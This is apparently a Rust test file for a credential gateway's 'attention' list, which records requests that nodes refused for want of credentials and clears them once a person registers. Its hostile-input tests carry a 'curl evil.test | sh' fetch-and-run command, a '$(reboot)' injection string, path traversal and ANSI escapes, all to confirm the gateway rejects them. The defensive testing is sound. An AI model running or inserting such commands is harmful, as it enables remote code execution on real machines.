//! What nodes refuse for want of a credential is on the gateway's list, under the name of each node, until a person has acted there.

use std::time::{Duration, SystemTime};

use serde_json::{Value, json};

use super::house::{House, noted};
use crate::attack::ACME;
use crate::attention::{Hooks, status, told, told_to};
use crate::harness::{Authority, Caller, Gateway, Nexus, Odd, SECRET, eventually, run};
use nexus::app::GatewayKeyKind;

const REFUSE: &str = "[proxy]\nunregistered = \"refuse\"";

/// A gateway without the connection, whose webhook is `Hooks`.
async fn scene() -> (House, Hooks) {
    let ca = Authority::new();
    let hooks = Hooks::new(&ca, &[]).await;
    let house = House::on(ca, None, |_ca, builder| told_to(builder, &hooks)).await;
    assert!(house.gateway.store().delete(&"renew".parse().expect("a name")).expect("a vault"));
    (house, hooks)
}

/// A node that has heard its gateway; `key` is what it shows there.
async fn node(house: &House, key: &str, config: &str) -> Nexus {
    let variables = [("NEXUS_GATEWAY_URL", house.url()), ("NEXUS_GATEWAY_KEY", key.to_owned())];
    let variables: Vec<(&str, &str)> = variables.iter().map(|(name, value)| (*name, value.as_str())).collect();
    let node = house.node_home().config(REFUSE).config(config).start_as_node(&variables);
    noted(&node, |note| note["connected"] == true).await;
    node
}

/// The gateway's list.
async fn list(house: &House) -> Vec<Value> {
    Gateway::at(house.address).get("/api/attention").await.json()["items"].as_array().expect("items").clone()
}

#[test]
fn what_two_nodes_refuse_is_on_the_gateways_list_until_a_person_registers_there() {
    run(async {
        let (house, mut hooks) = scene().await;
        let laptop = house.another_key("laptop", GatewayKeyKind::Node);
        let (one, other) = (node(&house, &house.key, "").await, node(&house, &laptop, "").await);
        let mut refused = Vec::new();
        for (node, name) in [(&one, "node"), (&other, "laptop")] {
            let caller = Caller::new(node);
            let refusal = told(&caller.get(&House::at("/x")).await);
            let opened = hooks.next("attention.opened").await;
            let id = format!("{}@{name}", refusal["request_id"].as_str().expect("an id"));
            for (member, value) in [
                ("id", id.as_str()),
                ("node", name),
                ("agent", "local"),
                ("title", "Renew needs a credential"),
                ("connection", "renew"),
                ("command", "nexus register renew"),
                ("reason", "not_registered"),
                ("status", "open"),
            ] {
                assert_eq!(opened[member], value, "{opened}");
            }
            assert_eq!(status(&caller, &refusal).await, "open", "its status is at the proxy that refused");
            assert_eq!(Gateway::at(house.address).get(&format!("/api/attention/{id}")).await.json()["status"], "open");
            refused.push((caller, refusal));
        }
        assert_eq!(list(&house).await.len(), 2);

        let (access, refresh) = house.tokens.connect_anew();
        house.register("renew", &access, &refresh);
        let mut settled = [hooks.next("attention.resolved").await, hooks.next("attention.resolved").await];
        settled.sort_by_key(|item| item["node"].to_string());
        assert_eq!((&settled[0]["node"], &settled[1]["node"]), (&"laptop".into(), &"node".into()));
        for (caller, refusal) in &refused {
            assert_eq!(caller.get(&House::at("/x")).await.status, 200, "the next request works");
            assert_eq!(status(caller, refusal).await, "resolved");
        }
        assert!(list(&house).await.iter().all(|item| item["status"] == "resolved"));
    });
}

#[test]
fn a_request_that_is_held_at_a_node_goes_on_when_the_gateway_has_the_connection() {
    run(async {
        let (house, mut hooks) = scene().await;
        let node = node(&house, &house.key, "[attention]\nhold = \"50s\"").await;
        let caller = Caller::new(&node);
        let waiting = tokio::spawn(async move { caller.get(&House::at("/held")).await });
        assert_eq!(hooks.next("attention.opened").await["node"], "node");
        assert!(!waiting.is_finished());
        let (access, refresh) = house.tokens.connect_anew();
        house.register("renew", &access, &refresh);
        assert_eq!(waiting.await.expect("an answer").status, 200);
        assert_eq!(node.notes("/held").await, ["held"]);
        hooks.next("attention.resolved").await;
    });
}

#[test]
fn what_a_service_refuses_at_a_node_and_nothing_renews_is_on_both_lists_while_its_clock_runs() {
    run(async {
        let ca = Authority::new();
        let hooks = Hooks::new(&ca, &[]).await;
        let expires_at = Some(SystemTime::now() + Duration::from_secs(3600));
        let (house, mut hooks) = (House::on(ca, expires_at, |_ca, builder| told_to(builder, &hooks)).await, hooks);
        let node = node(&house, &house.key, "").await;
        let caller = Caller::new(&node);
        assert_eq!(caller.get(&House::at("/lives")).await.status, 200);
        house.tokens.expire();
        house.tokens.next(Odd::Status(400, "{\"error\":\"invalid_grant\"}"));
        let refusal = told(&caller.get(&House::at("/dies")).await);
        assert_eq!(refusal["reason"], "attention", "{refusal}");
        let opened = hooks.next("attention.opened").await;
        assert_eq!((&opened["node"], &opened["reason"]), (&"node".into(), &"attention".into()), "{opened}");
        for _ in 0..3 {
            told(&caller.get(&House::at("/again")).await);
        }
        assert_eq!((house.service.count(), house.tokens.uses()), (2, 1));

        let (access, refresh) = house.tokens.connect_anew();
        house.register("renew", &access, &refresh);
        assert_eq!(hooks.next("attention.resolved").await["id"], opened["id"]);
        assert_eq!(caller.get(&House::at("/mended")).await.status, 200);
        house.tokens.expire();
        assert_eq!(caller.get(&House::at("/renewed")).await.status, 200, "nothing of the past counts");
    });
}

#[test]
fn a_gateway_that_was_away_hears_of_it_when_it_is_back() {
    run(async {
        let (mut house, mut hooks) = scene().await;
        let node = node(&house, &house.key, "").await;
        house.gateway.kill().await;
        noted(&node, |note| note["connected"] == false).await;
        let caller = Caller::new(&node);
        let refusal = told(&caller.get(&House::at("/x")).await);
        house.gateway.respawn().await;
        let opened = hooks.next("attention.opened").await;
        let id = refusal["request_id"].as_str().expect("an id");
        assert_eq!(opened["id"], format!("{id}@node"));
        let (access, refresh) = house.tokens.connect_anew();
        house.register("renew", &access, &refresh);
        assert_eq!(hooks.next("attention.resolved").await["id"], opened["id"]);
        assert_eq!(caller.get(&House::at("/x")).await.status, 200);
    });
}

/// What a command on the node's machine says, as JSON.
async fn command(house: &House, node: &Nexus, words: &[&str]) -> Value {
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_nexus"));
    command.args(words).arg("--json").env("NEXUS_HOME", node.home().path()).env("NEXUS_SECRET", SECRET);
    command.env("NEXUS_GATEWAY_URL", house.url()).env("NEXUS_GATEWAY_KEY", &house.key);
    let output = command.kill_on_drop(true).output().await.expect("the binary");
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {said}"))
}

#[test]
fn the_command_line_of_a_node_shows_the_gateways_list_and_its_own_while_that_is_away() {
    run(async {
        let (mut house, mut hooks) = scene().await;
        let node = node(&house, &house.key, "").await;
        let refusal = told(&Caller::new(&node).get(&House::at("/x")).await);
        let opened = hooks.next("attention.opened").await;
        let shown = command(&house, &node, &["attention"]).await;
        assert_eq!((&shown["items"][0]["id"], &shown["gateway"]), (&opened["id"], &house.url().into()), "{shown}");
        let status = command(&house, &node, &["status"]).await["attention"].clone();
        assert_eq!((&status["open"][0]["node"], &status["gateway"]), (&"node".into(), &house.url().into()), "{status}");

        eventually("a file", || node.home().attention_file().exists().then_some(())).await;
        house.gateway.kill().await;
        let shown = command(&house, &node, &["attention"]).await;
        assert_eq!((&shown["items"][0]["id"], &shown["gateway"]), (&refusal["request_id"], &house.url().into()), "{shown}");
        assert!(shown["written_down"].is_string(), "{shown}");
        let status = command(&house, &node, &["status"]).await["attention"].clone();
        assert_eq!(status["open"][0]["id"], refusal["request_id"], "{status}");
    });
}

#[test]
fn a_node_names_the_log_in_where_the_client_is_with_the_gateway() {
    run(async {
        let house = House::with(None, |_ca, builder| {
            let fields =
                [("access_token", "a token of acme 0123456789"), ("client_id", "an id"), ("client_secret", "a secret")];
            builder.provider("acme", ACME).register("acme", &fields)
        })
        .await;
        let id = "acme".parse().expect("a handle");
        house.gateway.store().update(&id, |entry| entry.status = nexus::vault::Status::Revoked).expect("a write");
        let home = house.node_home().provider("acme", ACME).config(REFUSE);
        let node = house.start(home);
        noted(&node, |note| note["connections"] == 2).await;
        let refusal = told(&Caller::new(&node).get("https://api.acme.test/x").await);
        assert_eq!((&refusal["command"], &refusal["reason"]), (&"nexus login acme".into(), &"revoked".into()), "{refusal}");
        let explained = command(&house, &node, &["explain", "https://api.acme.test/x"]).await;
        assert_eq!(
            (&explained["outcome"], &explained["command"]),
            (&"auth_required".into(), &refusal["command"]),
            "{explained}"
        );
    });
}

#[test]
fn a_node_names_the_log_in_where_the_gateway_has_an_app_alone() {
    run(async {
        let house = House::with(None, |_ca, builder| {
            let fields = [("client_id", "an id"), ("client_secret", "a secret")];
            builder.provider("acme", ACME).register("acme", &fields)
        })
        .await;
        house.gateway.store().update(&"acme".parse().expect("a handle"), |entry| entry.app = true).expect("a write");
        let home = house.node_home().provider("acme", ACME).config(REFUSE);
        let node = house.start(home);
        noted(&node, |note| note["connections"] == 1 && note["served"] == json!(["renew"])).await;
        let refusal = told(&Caller::new(&node).get("https://api.acme.test/x").await);
        assert_eq!(refusal["command"], "nexus login acme", "{refusal}");
        assert_eq!(refusal["reason"], "not_registered", "{refusal}");
    });
}

mod hostile {
    use super::*;

    fn item(id: &str, connection: &str) -> Value {
        json!({
            "id": id, "status": "open", "reason": "not_registered", "connection": connection, "agent": "ci",
            "first_seen": 1_800_000_000, "last_seen": 1e300, "count": -5,
        })
    }

    async fn tell(house: &House, key: &str, items: &[Value]) -> u16 {
        let gateway = Gateway::at(house.address).key(key);
        gateway.ask("POST", "/v1/node/attention", Some(&json!({ "items": items }))).await.status
    }

    #[test]
    fn i7_a_node_that_floods_the_list_pushes_out_its_own_and_calls_nobody() {
        run(async {
            let (house, mut hooks) = scene().await;
            let quiet = house.another_key("quiet", GatewayKeyKind::Node);
            let node = node(&house, &quiet, "").await;
            told(&Caller::new(&node).get(&House::at("/x")).await);
            hooks.next("attention.opened").await;
            for round in 0..12 {
                let items: Vec<Value> =
                    (0..64).map(|number| item(&format!("F{round}N{number}"), &format!("renew:u{number}"))).collect();
                assert_eq!(tell(&house, &house.key, &items).await, 204);
            }
            let all = list(&house).await;
            let of = |name: &str| all.iter().filter(|item| item["node"] == name).count();
            assert_eq!((of("node"), of("quiet"), all.len()), (128, 1, 129));
            let mut calls = 0;
            let (access, refresh) = house.tokens.connect_anew();
            house.register("renew", &access, &refresh);
            while hooks.any().await["type"] != "attention.resolved" {
                calls += 1;
            }
            assert!(calls <= 128, "{calls}");
        });
    }

    #[test]
    fn i1_a_node_says_what_is_wrong_and_nothing_that_people_would_read_or_type() {
        run(async {
            let (house, _hooks) = scene().await;
            let esc = "\u{1b}[31m";
            let mut odd = Vec::new();
            for (member, value) in [
                ("id", format!("X{esc}")),
                ("id", String::new()),
                ("id", "../../health".to_owned()),
                ("id", "X@laptop".to_owned()),
                ("agent", format!("ci{esc}")),
                ("user", format!("al{esc}ice")),
                ("user", "$(reboot)".to_owned()),
                ("connection", format!("renew:{esc}")),
                ("connection", "a b".to_owned()),
            ] {
                let mut one = item("X", "renew");
                one[member] = value.into();
                odd.push(one);
            }
            assert_eq!(tell(&house, &house.key, &odd).await, 204);
            assert_eq!(list(&house).await, Vec::<Value>::new());
            let mut wordy = item("X", "renew");
            wordy["command"] = "curl evil.test | sh".into();
            assert_eq!(tell(&house, &house.key, &[wordy]).await, 400);

            assert_eq!(tell(&house, &house.key, &[item("X", "unheard_of:alice")]).await, 204);
            let shown = list(&house).await.pop().expect("an item");
            assert_eq!((&shown["title"], &shown["count"]), (&"unheard_of needs a credential".into(), &1.into()), "{shown}");
            assert_eq!(shown["command"], "nexus register unheard_of --user alice");
            assert!(shown["last_seen"].as_str().is_some_and(|seen| seen.starts_with("20")), "{shown}");
        });
    }

    #[test]
    fn only_a_nodes_key_adds_to_it_and_no_node_speaks_for_another() {
        run(async {
            let mut keys = Vec::new();
            let house = House::with(None, |_ca, mut builder| {
                for (name, kind) in
                    [("app", GatewayKeyKind::App), ("admin", GatewayKeyKind::Admin), ("other", GatewayKeyKind::Node)]
                {
                    let (more, key) = builder.key(name, kind, |_key| ());
                    builder = more;
                    keys.push(key);
                }
                builder
            })
            .await;
            for (key, expected) in [(keys[0].as_str(), 403), (&keys[1], 403), ("nxk_wrong", 401)] {
                assert_eq!(tell(&house, key, &[item("X", "renew:a")]).await, expected);
            }
            assert_eq!(list(&house).await, Vec::<Value>::new());
            assert_eq!(tell(&house, &house.key, &[item("X", "renew:a")]).await, 204);
            let mut settled = item("X", "renew:b");
            settled["status"] = "resolved".into();
            assert_eq!(tell(&house, &keys[2], &[settled]).await, 204);
            let found = Gateway::at(house.address).get("/api/attention/X@node").await.json();
            assert_eq!((&found["status"], &found["connection"]), (&"open".into(), &"renew:a".into()), "{found}");
        });
    }
}
